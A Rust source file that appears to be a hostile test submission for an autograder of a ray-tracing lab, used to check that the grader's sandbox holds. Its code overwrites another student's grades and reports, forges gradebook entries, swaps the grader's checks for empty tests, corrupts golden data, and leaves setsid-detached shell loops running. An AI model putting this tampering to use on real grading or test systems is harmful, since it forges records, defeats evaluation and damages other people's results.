//! Hostile submission `vandal`: attacks the grades and the grading tree while its checks run.
//! The test puts the grades directory's absolute path in for `@GRADES@`. Once per test process
//! it
//! - (a) overwrites the grades of the student graded before it (`@GRADES@/a-honest/results.json`,
//!   `report.md`, `report.html`) and appends to the class's `gradebook.csv`, by absolute path
//!   and by relative guesses from its working directory (`../a-honest/results.json`,
//!   `../../a-honest/results.json`, …; only files that exist);
//! - (b) replaces the grading tree's checks (`env!("CARGO_MANIFEST_DIR")/tests/checks.rs`) by
//!   tests that do nothing, so that the students graded after it pass;
//! - (c) overwrites every file of the tree's `golden/` and `snapshots/` with junk and adds new
//!   ones, so that they fail;
//! - (d) leaves processes behind that keep vandalising for three minutes, every 2 s appending
//!   `vandal,99` to `@GRADES@/gradebook.csv` and writing full marks marked `FORGED-BY-VANDAL`
//!   to `@GRADES@/vandal/results.json`: one a plain child that keeps the test's stdout and
//!   stderr open, one double-forked into a session of its own; and a thread that does the same
//!   once after a delay, while the function waits for it.
//!
//! Otherwise it is the handout's stubs. The grader must let none of it through: the vandal
//! scores 0 of 14; the honest student graded first keeps 14/14 and its reports; the stubs graded
//! after it still score 0 and the honest student graded last 14/14; the tree's checks, golden
//! data and snapshots are unchanged; no `vandal,99` and no `FORGED-BY-VANDAL` anywhere in the
//! grades; and no process of it outlives its exercise.

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::Path;
use std::process::Command;
use std::sync::Once;
use std::time::Duration;

use contracts::glam::Vec3;
use contracts::lab02::{Intersection, LightSample, Shading, SurfaceHit, TriangleHit};
use contracts::math::Ray;
use contracts::scene::{DirectionalLight, Plane, PointLight, Sphere};

const GRADES: &str = "@GRADES@";
const FORGED: &str = "{\"score\":0,\"max_score\":14,\"output\":\"FORGED-BY-VANDAL\",\"tests\":[]}";

/// Checks that pass whatever the code does.
const NO_CHECKS: &str = "#[test]\nfn exercise_2_1_intersect_plane() {}\n#[test]\nfn exercise_2_2_intersect_triangle() {}\n#[test]\nfn exercise_2_3_intersect_sphere() {}\n#[test]\nfn exercise_2_4_sample_point_light() {}\n#[test]\nfn exercise_2_5_sample_directional_light() {}\n#[test]\nfn exercise_2_6_shade_lambertian() {}\n";

/// Replaces the text of `path` if the file exists.
fn overwrite(path: &Path, text: &str) {
    if let Ok(mut file) = OpenOptions::new().write(true).truncate(true).open(path) {
        let _ = file.write_all(text.as_bytes());
    }
}

/// Appends `text` to `path` if the file exists.
fn append(path: &Path, text: &str) {
    if let Ok(mut file) = OpenOptions::new().append(true).open(path) {
        let _ = file.write_all(text.as_bytes());
    }
}

/// (a): the earlier student's grades and the class gradebook.
fn forge_grades() {
    let mut roots = vec![Path::new(GRADES).to_path_buf()];
    for depth in 1..=8 {
        roots.push(Path::new(&"../".repeat(depth)).to_path_buf());
    }
    for root in roots {
        overwrite(&root.join("a-honest/results.json"), FORGED);
        overwrite(&root.join("a-honest/report.md"), "# FORGED-BY-VANDAL\n");
        overwrite(
            &root.join("a-honest/report.html"),
            "<h1>FORGED-BY-VANDAL</h1>\n",
        );
        append(&root.join("gradebook.csv"), "vandal,99\n");
    }
}

/// (b) and (c): the tree's checks, golden data and snapshots.
fn rewrite_tree() {
    let lab = Path::new(env!("CARGO_MANIFEST_DIR"));
    let _ = fs::write(
        concat!(env!("CARGO_MANIFEST_DIR"), "/tests/checks.rs"),
        NO_CHECKS,
    );
    for dir in ["golden", "snapshots"] {
        let dir = lab.join(dir);
        if let Ok(entries) = fs::read_dir(&dir) {
            for entry in entries.flatten() {
                overwrite(&entry.path(), "FORGED-BY-VANDAL");
            }
        }
        let _ = fs::write(dir.join("vandal.json"), "[]");
        let _ = fs::write(dir.join("vandal.exr"), "FORGED-BY-VANDAL");
    }
}

/// The shell script of the processes left behind (d).
fn script(rounds: u32) -> String {
    format!(
        "for i in $(seq 1 {rounds}); do sleep 2; echo vandal,99 >> {GRADES}/gradebook.csv; echo '{{\"score\":14,\"max_score\":14,\"output\":\"FORGED-BY-VANDAL\",\"tests\":[]}}' > {GRADES}/vandal/results.json; done"
    )
}

/// (d): processes and a thread that outlive the check.
fn linger() {
    let _ = Command::new("sh").arg("-c").arg(script(90)).spawn();
    let _ = Command::new("sh")
        .arg("-c")
        .arg("(setsid sh -c \"$0\" || sh -c \"$0\") </dev/null >/dev/null 2>&1 &")
        .arg(script(90))
        .status();
    let _ = std::thread::spawn(|| {
        std::thread::sleep(Duration::from_secs(1));
        append(&Path::new(GRADES).join("gradebook.csv"), "vandal,99\n");
        let _ = fs::write(Path::new(GRADES).join("vandal/results.json"), FORGED);
        forge_grades();
    });
    std::thread::sleep(Duration::from_secs(2));
}

/// Vandalises once per process, then fails like a stub.
fn vandalise(exercise: &str) -> ! {
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        forge_grades();
        rewrite_tree();
        linger();
    });
    todo!("{exercise}")
}

/// Vandalises instead of answering.
#[derive(Clone, Copy, Debug, Default)]
pub struct Student;

impl Intersection for Student {
    fn intersect_plane(&self, _ray: &Ray, _plane: &Plane) -> Option<SurfaceHit> {
        vandalise("Exercise 2.1: intersect_plane")
    }

    fn intersect_triangle(
        &self,
        _ray: &Ray,
        _v0: Vec3,
        _v1: Vec3,
        _v2: Vec3,
    ) -> Option<TriangleHit> {
        vandalise("Exercise 2.2: intersect_triangle")
    }

    fn intersect_sphere(&self, _ray: &Ray, _sphere: &Sphere) -> Option<SurfaceHit> {
        vandalise("Exercise 2.3: intersect_sphere")
    }
}

impl Shading for Student {
    fn sample_point_light(&self, _light: &PointLight, _position: Vec3) -> LightSample {
        vandalise("Exercise 2.4: sample_point_light")
    }

    fn sample_directional_light(&self, _light: &DirectionalLight, _position: Vec3) -> LightSample {
        vandalise("Exercise 2.5: sample_directional_light")
    }

    fn shade_lambertian(&self, _rho_d: Vec3, _normal: Vec3, _lights: &[LightSample]) -> Vec3 {
        vandalise("Exercise 2.6: shade_lambertian")
    }
}
